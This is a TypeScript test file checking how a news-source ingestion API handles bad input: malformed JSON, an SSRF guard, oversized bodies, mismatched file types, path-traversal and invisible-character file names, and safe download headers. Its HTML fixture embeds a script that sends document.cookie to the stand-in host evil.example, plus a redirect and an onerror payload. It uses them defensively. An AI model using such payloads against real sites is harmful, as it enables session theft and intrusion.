import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { asBrowser, errorOf, multipartFile as multipart, openTestApi, setupAdmin, userWithRole, type Browser, type TestApi } from './support/api.js';

const HOSTILE_HTML = Buffer.from(
  '<!doctype html><html><head><title>Arrests in Zhanaozen</title><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>' +
    '<body><script>fetch("https://evil.example/?c="+document.cookie)</script><img src="https://tracker.example/pixel.gif" onerror="alert(1)">' +
    '<article><h1>Arrests in Zhanaozen</h1><p>Police in Zhanaozen detained twelve oil workers on Monday after a strike over unpaid wages, relatives said.</p>' +
    '<p>The workers were taken to the city police department and later charged with organising an unsanctioned gathering.</p></article></body></html>',
);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...randomBytes(64)]);

describe('bad input through the API', () => {
  let api: TestApi;
  let analyst: Browser;
  before(async () => {
    // Small limits so that "too large" is cheap to reach.
    api = await openTestApi({ env: { CHRONICLE_API_BODY_LIMIT: '4096', CHRONICLE_FETCH_MAX_BYTES: '8192' } });
    await setupAdmin(api);
    analyst = (await userWithRole(api, 'analyst', [{ role: 'analyst' }])).browser;
  });
  after(async () => api.close());

  const postJson = (payload: string | object, url = '/api/v1/sources') =>
    api.app.inject({ method: 'POST', url, headers: asBrowser(analyst, { 'content-type': 'application/json' }), payload });
  const upload = (fileName: string, type: string, bytes: Buffer, field?: string) => {
    const m = multipart(fileName, type, bytes, field);
    return api.app.inject({ method: 'POST', url: '/api/v1/sources', headers: asBrowser(analyst, m.headers), payload: m.payload });
  };

  test('malformed JSON is a 400 in the stable error shape', async () => {
    const res = await postJson('{"text": "unterminated');
    assert.equal(res.statusCode, 400);
    assert.deepEqual(res.json(), { error: { code: 'INVALID_INPUT', message: 'the body is not valid JSON' } });
    assert.equal((await postJson('')).statusCode, 400);
  });

  test('wrong types name the field', async () => {
    const res = await postJson({ text: 42 });
    assert.equal(res.statusCode, 400);
    const e = errorOf(res);
    assert.equal(e.code, 'INVALID_INPUT');
    const issues = e.details?.issues as { in: string; path: string; message: string }[];
    assert.deepEqual(issues.map((i) => [i.in, i.path]), [['body', '/text']]);
    const bad = await api.app.inject({ url: '/api/v1/sources?limit=many', headers: { cookie: analyst.cookie } });
    assert.equal(bad.statusCode, 400);
    assert.equal((errorOf(bad).details?.issues as { in: string }[])[0]!.in, 'querystring');
  });

  test('unknown fields are rejected, not ignored (body and query)', async () => {
    const res = await postJson({ text: 'Police detained a blogger in Almaty.', collectionId: 'secret' });
    assert.equal(res.statusCode, 400);
    const issues = errorOf(res).details?.issues as { unknownFields?: string[] }[];
    assert.deepEqual(issues[0]!.unknownFields, ['collectionId']);
    const q = await api.app.inject({ url: '/api/v1/sources?colection=default', headers: { cookie: analyst.cookie } });
    assert.equal(q.statusCode, 400);
    const login = await api.app.inject({ method: 'POST', url: '/api/v1/login', payload: { username: 'a', password: 'b', remember: true } });
    assert.equal(login.statusCode, 400);
  });

  test('exactly one of url or text; only http(s) URLs', async () => {
    assert.equal((await postJson({})).statusCode, 400);
    assert.equal((await postJson({ url: 'https://example.org/', text: 'x' })).statusCode, 400);
    assert.equal((await postJson({ url: 'file:///etc/passwd' })).statusCode, 400);
  });

  test('a URL to a private address is refused by the SSRF guard', async () => {
    const res = await postJson({ url: 'http://127.0.0.1:9/' });
    assert.equal(res.statusCode, 422);
    assert.equal(errorOf(res).code, 'FETCH_REFUSED');
  });

  test('an oversized JSON body is a 413', async () => {
    const res = await postJson({ text: 'x'.repeat(5000) });
    assert.equal(res.statusCode, 413);
    assert.equal(errorOf(res).code, 'TOO_LARGE');
  });

  test('an oversized upload is a 413 and stores nothing', async () => {
    const before = await api.app.inject({ url: '/api/v1/sources', headers: { cookie: analyst.cookie } });
    const res = await upload('big.txt', 'text/plain', Buffer.from('word '.repeat(2000)));
    assert.equal(res.statusCode, 413);
    assert.equal(errorOf(res).code, 'TOO_LARGE');
    const afterList = await api.app.inject({ url: '/api/v1/sources', headers: { cookie: analyst.cookie } });
    assert.equal(afterList.json().items.length, before.json().items.length);
  });

  test('an upload whose bytes do not match its declared type is refused with both types named', async () => {
    const cases: [string, string, Buffer, string, string][] = [
      ['report.pdf', 'application/pdf', HOSTILE_HTML, 'application/pdf', 'text/html'],
      ['report.pdf', 'application/octet-stream', HOSTILE_HTML, 'application/pdf', 'text/html'],
      ['notes.txt', 'text/plain', PNG, 'text/plain', 'image/png'],
      ['photo.png', 'image/png', HOSTILE_HTML, 'image/png', 'text/html'],
      ['page.html', 'text/html', Buffer.from('%PDF-1.7\n1 0 obj\n'), 'text/html', 'application/pdf'],
    ];
    for (const [name, type, bytes, declared, detected] of cases) {
      const res = await upload(name, type, bytes);
      assert.equal(res.statusCode, 415, `${name} as ${type}: ${res.body}`);
      assert.deepEqual(errorOf(res).details, { declared, detected }, name);
    }
  });

  test('a truthfully labelled but unsupported file is a 415 too', async () => {
    const res = await upload('photo.png', 'image/png', PNG);
    assert.equal(res.statusCode, 415);
    assert.equal(errorOf(res).code, 'UNSUPPORTED_MEDIA');
  });

  test('a form without a "file" field is a 400', async () => {
    assert.equal((await upload('a.txt', 'text/plain', Buffer.from('text'), 'document')).statusCode, 400);
  });

  test('path tricks and invisible characters in file names are neutralised', async () => {
    const names: [string, string][] = [
      ['../../etc/cron.d/report.html', 'report.html'],
      ['..\\..\\Windows\\System32\\statement.html', 'statement.html'],
      // A right-to-left override would show "court\u202Etxt.html" as "courtlmth.txt".
      ['court\u202Etxt.html', 'courttxt.html'],
    ];
    for (const [i, [given, expected]] of names.entries()) {
      const bytes = Buffer.concat([HOSTILE_HTML, Buffer.from(`<!-- ${i} -->`)]);
      const res = await upload(given, 'text/html', bytes);
      assert.equal(res.statusCode, 201, res.body);
      const detail = await api.app.inject({ url: `/api/v1/sources/${res.json().id}`, headers: { cookie: analyst.cookie } });
      const p = detail.json().source.provenance;
      assert.equal(p.fileName, expected);
      assert.equal(p.input, `upload:${expected}`);
      assert.equal(p.origin, 'upload');
      assert.equal(p.capturedBy, 'analyst');
    }
    const nul = multipart('x', 'text/html', Buffer.concat([HOSTILE_HTML, Buffer.from('<!-- nul -->')]));
    const payload = Buffer.from(nul.payload.toString('latin1').replace('filename="x"', 'filename="evil\u0000.html"'), 'latin1');
    const res = await api.app.inject({ method: 'POST', url: '/api/v1/sources', headers: asBrowser(analyst, nul.headers), payload });
    assert.equal(res.statusCode, 201, res.body);
    const detail = await api.app.inject({ url: `/api/v1/sources/${res.json().id}`, headers: { cookie: analyst.cookie } });
    assert.equal(detail.json().source.provenance.fileName, 'evil.html');
  });

  test('the original downloads as an inert attachment, byte for byte', async () => {
    const bytes = Buffer.concat([HOSTILE_HTML, Buffer.from('<!-- download -->')]);
    const created = await upload('zhanaozen arrests — 2011.html', 'text/html', bytes);
    assert.equal(created.statusCode, 201, created.body);
    const res = await api.app.inject({ url: `/api/v1/sources/${created.json().id}/original`, headers: { cookie: analyst.cookie } });
    assert.equal(res.statusCode, 200);
    assert.deepEqual(res.rawPayload, bytes);
    assert.equal(res.headers['content-type'], 'application/octet-stream');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="zhanaozen_arrests___2011.html"; filename\*=UTF-8''zhanaozen%20arrests%20%E2%80%94%202011.html$/);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.match(String(res.headers['content-security-policy']), /^sandbox; default-src 'none'/);
    assert.equal(res.headers['cache-control'], 'no-store');
    // The cleaned article kept the text and dropped the script.
    const detail = await api.app.inject({ url: `/api/v1/sources/${created.json().id}`, headers: { cookie: analyst.cookie } });
    const article = detail.json().article.value;
    assert.equal(article.title, 'Arrests in Zhanaozen');
    assert.ok(!article.text.includes('document.cookie'));
  });

  test('lists page newest first with a cursor', async () => {
    const first = await api.app.inject({ url: '/api/v1/sources?limit=2', headers: { cookie: analyst.cookie } });
    assert.equal(first.statusCode, 200);
    const page = first.json() as { items: { id: string }[]; nextCursor: string };
    assert.equal(page.items.length, 2);
    assert.ok(page.items[0]!.id > page.items[1]!.id);
    const next = await api.app.inject({ url: `/api/v1/sources?limit=2&before=${page.nextCursor}`, headers: { cookie: analyst.cookie } });
    assert.ok(next.json().items.every((s: { id: string }) => s.id < page.items[1]!.id));
  });
});
